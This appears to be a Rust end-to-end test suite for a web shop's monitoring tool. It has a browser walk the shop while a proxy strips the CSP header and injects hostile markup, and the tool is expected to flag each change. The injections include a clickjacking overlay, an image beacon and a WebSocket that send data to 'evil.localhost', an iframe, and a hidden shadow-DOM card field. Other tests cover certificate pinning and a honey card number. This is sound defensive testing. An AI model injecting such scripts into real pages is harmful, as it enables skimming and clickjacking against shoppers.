//! A real browser walks through the shop for the watch: quiet while all is well, and it sees what only a browser sees.
#![allow(clippy::unwrap_used)]

use e2e::{
    proxy::{self, Change, Proxy},
    secure::Secure,
};
use serde_json::Value;
use std::{
    fs,
    io::Write,
    path::Path,
    process::Command,
    time::{Duration, Instant},
};
use testkit::Dozo;

/// How often the quiet shop is walked through; a hundred times by `DOZO_WALKS=100`.
fn quiet_walks() -> u32 {
    testkit::scale("DOZO_WALKS", 3)
}

fn no_chromium() -> bool {
    let missing = !std::path::Path::new("/usr/lib/chromium/chromium").exists();
    if missing {
        testkit::skip(&testkit::test_name(), "chromium is not installed");
    }
    missing
}

/// Walks, and what was seen; whether every walk came to its end.
fn walk(shop: &Dozo, at: Option<&Proxy>, walks: u32) -> (bool, Vec<Value>, String) {
    let mut command = Command::new(testkit::binary().unwrap());
    command.args(["watch", "look", "--browser", "--json", "--rounds", &walks.to_string()]);
    command.args(at.iter().flat_map(|proxy| ["--shop", &proxy.origin])).arg("--data").arg(shop.data());
    let out = command.output().unwrap();
    let told = String::from_utf8_lossy(&out.stderr).into_owned();
    let text = String::from_utf8(out.stdout).unwrap();
    let seen = text.lines().map(|line| serde_json::from_str::<Value>(line).unwrap()["seen"].clone());
    (out.status.success(), seen.collect(), told)
}

const EVIL: &str = "http://evil.localhost:9/";

#[test]
fn only_a_browser_sees_it() {
    if no_chromium() {
        return;
    }
    let shop = e2e::shop();
    let began = Instant::now();
    let quiet = walk(&shop, None, quiet_walks());
    assert!(quiet.0 && quiet.1.is_empty(), "{quiet:#?}");
    eprintln!("{} quiet walks, {:?} each", quiet_walks(), began.elapsed() / quiet_walks());

    let proxy = proxy::in_front_of(&shop).unwrap();
    let quiet = walk(&shop, Some(&proxy), 2);
    assert!(quiet.0, "{quiet:#?}");
    let open = Change::NoHeader("content-security-policy");
    let script = |text: &'static str| [open, Change::Page("</body>", text)];
    for (kind, page, changes) in [
        (
            "covered",
            "cart",
            script(
                "<div style=\"position:fixed;top:0;left:0;width:100%;height:100%;opacity:0\"></div></body>",
            ),
        ),
        (
            "request",
            "product",
            script("<script>new Image().src='http://evil.localhost:9/?'+document.title</script></body>"),
        ),
        ("script", "product", script("<script>let x = 1</script></body>")),
        ("socket", "checkout", script("<script>new WebSocket('ws://evil.localhost:9/')</script></body>")),
        ("frame", "cart", script("<iframe src=\"http://evil.localhost:9/\"></iframe></body>")),
        (
            "field",
            "checkout",
            script(
                "<script>let d=document.createElement('div');document.body.append(d);d.attachShadow({mode:'closed'}).innerHTML='<input name=cc>'</script></body>",
            ),
        ),
        ("header", "confirm", [open, open]),
    ] {
        proxy.set(&changes);
        let began = Instant::now();
        let (_, seen, told) = walk(&shop, Some(&proxy), 1);
        let is = |seen: &&Value| seen["kind"] == kind && seen["page"] == page;
        assert!(seen.iter().any(|seen| is(&seen)), "{kind}: {seen:#?} {told}");
        eprintln!("{kind}: seen after {:?}, browser started", began.elapsed());
        let text = format!("{seen:?}");
        assert!(!text.contains(EVIL) && !text.contains("document"), "nothing of the page is told: {text}");
    }
    // What lies over a button for a moment, as on a page that is still being laid out, takes no click.
    proxy.set(&script(
        "<style>@keyframes gone{to{visibility:hidden}}#over{position:fixed;inset:0;animation:gone 1s step-end forwards}</style>\
            <div id=\"over\"></div></body>",
    ));
    let (_, seen, told) = walk(&shop, Some(&proxy), 1);
    assert!(!seen.is_empty() && !seen.iter().any(|seen| seen["kind"] == "covered"), "{seen:#?} {told}");
}

#[test]
fn what_a_browser_sees_closes_payment_and_the_lock_is_no_finding() {
    if no_chromium() {
        return;
    }
    let shop = Dozo::builder().with_browser().start().unwrap();
    shop.expect_alarms();
    let report = || -> Value {
        let text = fs::read(shop.data().join("run/eyes/seen.json")).unwrap_or_default();
        serde_json::from_slice(&text).unwrap_or_default()
    };
    let until = |what: &str, seconds: u64, is: &dyn Fn() -> bool| {
        let began = Instant::now();
        while !is() {
            assert!(began.elapsed().as_secs() < seconds, "{what}: {}\n{}", report(), shop.log());
            std::thread::sleep(Duration::from_millis(100));
        }
        began.elapsed()
    };
    until("two walks", 90, &|| report()["walks"].as_u64() >= Some(2));
    assert!(report()["seen"] == serde_json::json!([]) && report()["failed"].is_null(), "{}", report());
    // The shop's own browser is held; another one walks through somebody in front of the shop, and what it saw is laid out.
    let eyes = shop.pids_of("eyes")[0].to_string();
    let signal = |word: &str| assert!(Command::new("kill").args([word, &eyes]).status().unwrap().success());
    signal("-STOP");
    let proxy = proxy::in_front_of(&shop).unwrap();
    let layer = "<div style=\"position:fixed;top:0;left:0;width:100%;height:100%;opacity:0\"></div></body>";
    proxy.set(&[Change::NoHeader("content-security-policy"), Change::Page("</body>", layer)]);
    let lock = || -> Value {
        serde_json::from_slice(&fs::read(shop.data().join("gate/lock.json")).unwrap_or_default())
            .unwrap_or_default()
    };
    let (ended_well, seen, told) = walk(&shop, Some(&proxy), 1);
    assert!(!ended_well && !told.contains("ended at"), "the walk ends well at the covered button: {told}");
    assert!(seen.iter().any(|seen| seen["kind"] == "covered" && seen["page"] == "cart"), "{seen:?}");
    let mut laid_out = report();
    (laid_out["at"], laid_out["seen"]) = (jiff::Timestamp::now().to_string().into(), seen.into());
    fs::write(shop.data().join("run/eyes/seen.json"), laid_out.to_string()).unwrap();
    let took = until("payment is not closed", 60, &|| lock()["closed"] == "payment");
    eprintln!("payment is closed {took:?} after it was seen that a layer lies over the button");
    assert_eq!((&lock()["by"], &lock()["why"]), (&"watch".into(), &"seen_in_browser".into()));
    drop(proxy);
    signal("-CONT");

    // Walks now end where the shop says that it is locked, on the page that was signed for that.
    let walked = report()["walks"].as_u64();
    until("two more walks", 90, &|| report()["walks"].as_u64() >= walked.map(|walks| walks + 2));
    assert_eq!(report()["failed"][1], "locked", "{}", report());
    assert_eq!(report()["seen"], serde_json::json!([]));
    std::thread::sleep(Duration::from_secs(5));
    let shown: Value =
        serde_json::from_slice(&fs::read(shop.data().join("run/watch/findings.json")).unwrap()).unwrap();
    let open = shown["cases"].as_array().unwrap().iter().filter(|case| case["over"].is_null());
    let open: Vec<&str> = open.filter_map(|case| case["what"].as_str()).collect();
    assert_eq!(open, ["locked"], "the lock is the one thing that is wrong: {shown}");
}

/// An authority of the merchant's own, made by openssl: browsers take no Ed25519, of which ours are.
struct Papers(tempfile::TempDir);

impl Papers {
    fn new() -> Papers {
        let papers = Papers(testkit::temp_dir());
        papers.openssl("req -x509 -newkey ec -pkeyopt ec_paramgen_curve:P-256 -nodes -days 9 -subj /CN=Own -keyout ca.key -out ca.pem");
        fs::write(papers.0.path().join("names"), "subjectAltName=DNS:shop.localhost").unwrap();
        papers
    }

    fn openssl(&self, line: &str) {
        let out = Command::new("openssl").args(line.split(' ')).current_dir(self.0.path()).output().unwrap();
        assert!(out.status.success(), "{}", String::from_utf8_lossy(&out.stderr));
    }

    /// Has the shop answer with another certificate and key.
    fn sign_for(&self, data: &Path) {
        self.openssl("req -newkey ec -pkeyopt ec_paramgen_curve:P-256 -nodes -subj /CN=Shop -keyout key.pem -out a.csr");
        self.openssl("x509 -req -in a.csr -CA ca.pem -CAkey ca.key -CAcreateserial -days 9 -extfile names -out chain.pem");
        for name in ["key.pem", "chain.pem"] {
            fs::copy(self.0.path().join(name), data.join("gate").join(name)).unwrap();
        }
        // Until the gate has taken it up.
        std::thread::sleep(Duration::from_millis(2_500));
    }
}

#[test]
fn a_shop_whose_authority_no_browser_knows_is_walked_by_its_key_and_by_no_other() {
    if no_chromium() {
        return;
    }
    let own = Papers::new();
    let secure = Secure::start_with_browser(|data| {
        fs::copy(own.0.path().join("ca.pem"), data.join("ca.pem")).unwrap();
        own.sign_for(data);
    });
    let secure = secure.unwrap();
    let shop = &secure.shop;
    let report = || -> Value {
        let text = fs::read(shop.data().join("run/eyes/seen.json")).unwrap_or_default();
        serde_json::from_slice(&text).unwrap_or_default()
    };
    let walked = |walks: u64| {
        let end = Instant::now() + Duration::from_secs(90);
        while report()["walks"].as_u64() < Some(walks) {
            assert!(Instant::now() < end, "walk {walks}: {}\n{}", report(), shop.log());
            std::thread::sleep(Duration::from_millis(100));
        }
        assert!(report()["seen"] == serde_json::json!([]) && report()["failed"].is_null(), "{}", report());
    };
    walked(1);
    // The key of a certificate that was renewed is taken, by the browser that walks and by one that begins.
    own.sign_for(&secure.data);
    walked(2);
    let quiet = walk(shop, None, 1);
    assert!(quiet.0 && quiet.1.is_empty(), "{quiet:#?}");
    // Whoever answers with a certificate of another authority is not walked to.
    shop.expect_alarms();
    Papers::new().sign_for(&secure.data);
    let (ended_well, seen, told) = walk(shop, None, 1);
    assert!(!ended_well && seen.is_empty() && told.contains("does not vouch for it"), "{told}");
}

#[test]
fn the_honey_card_is_declined_and_turns_up_nowhere() {
    if no_chromium() {
        return;
    }
    let folder = testkit::temp_dir();
    let data = folder.path().join("data");
    drop(Dozo::builder().data(&data).start().unwrap());
    let settings = data.join("dozo.toml");
    let text = fs::read_to_string(&settings).unwrap() + "\n[watch]\ntest_orders = true\n";
    fs::write(&settings, text).unwrap();
    let began_ms = jiff::Timestamp::now().as_millisecond();
    let shop = Dozo::builder().data(&data).with_browser().start().unwrap();
    let report = || -> Value {
        let text = fs::read(data.join("run/eyes/seen.json")).unwrap_or_default();
        serde_json::from_slice(&text).unwrap_or_default()
    };
    let until = |what: &str, is: &dyn Fn(&Value) -> bool| {
        let end = Instant::now() + Duration::from_secs(120);
        while !is(&report()) {
            assert!(Instant::now() < end, "{what}: {}\n{}", report(), shop.log());
            std::thread::sleep(Duration::from_millis(200));
        }
    };
    until("three walks", &|report| report["walks"].as_u64() >= Some(3));
    let now = report();
    assert!(now["seen"] == serde_json::json!([]) && now["failed"].is_null(), "{now}");
    let number = now["honey"].as_str().unwrap().to_owned();
    let db = rusqlite::Connection::open(data.join("shop/shop.db")).unwrap();
    let sql = "select count(*) from card_entry where outcome = 'failed' and last4 = $1 and opened_at > $2";
    let own = (&number[12..], began_ms);
    let declined: u32 = db.query_row(sql, own, |row| row.get(0)).unwrap();
    assert_eq!(declined, 1, "one test order, declined");
    let out = Command::new("grep").args(["-rlF", &number]).arg(&data).output().unwrap();
    let files = String::from_utf8(out.stdout).unwrap();
    let known = data.join("run/eyes/seen.json");
    assert_eq!(files.lines().collect::<Vec<_>>(), [known.to_str().unwrap()], "known to the eyes alone");

    // Where it turns up, also between letters, it is found.
    let mut log = fs::OpenOptions::new().append(true).open(data.join("logs/web.jsonl")).unwrap();
    writeln!(log, "{{\"id\":\"a{number}b\"}}").unwrap();
    let found = || {
        let out = Command::new(testkit::binary().unwrap())
            .args(["watch", "findings", "--json", "--data"])
            .arg(&data)
            .output()
            .unwrap();
        String::from_utf8_lossy(&out.stdout).contains("\"what\":\"card_number\",\"file\":\"logs/web.jsonl\"")
    };
    let end = Instant::now() + Duration::from_secs(20);
    while !found() {
        assert!(Instant::now() < end, "the honey card in a log is not found");
        std::thread::sleep(Duration::from_millis(200));
    }
}
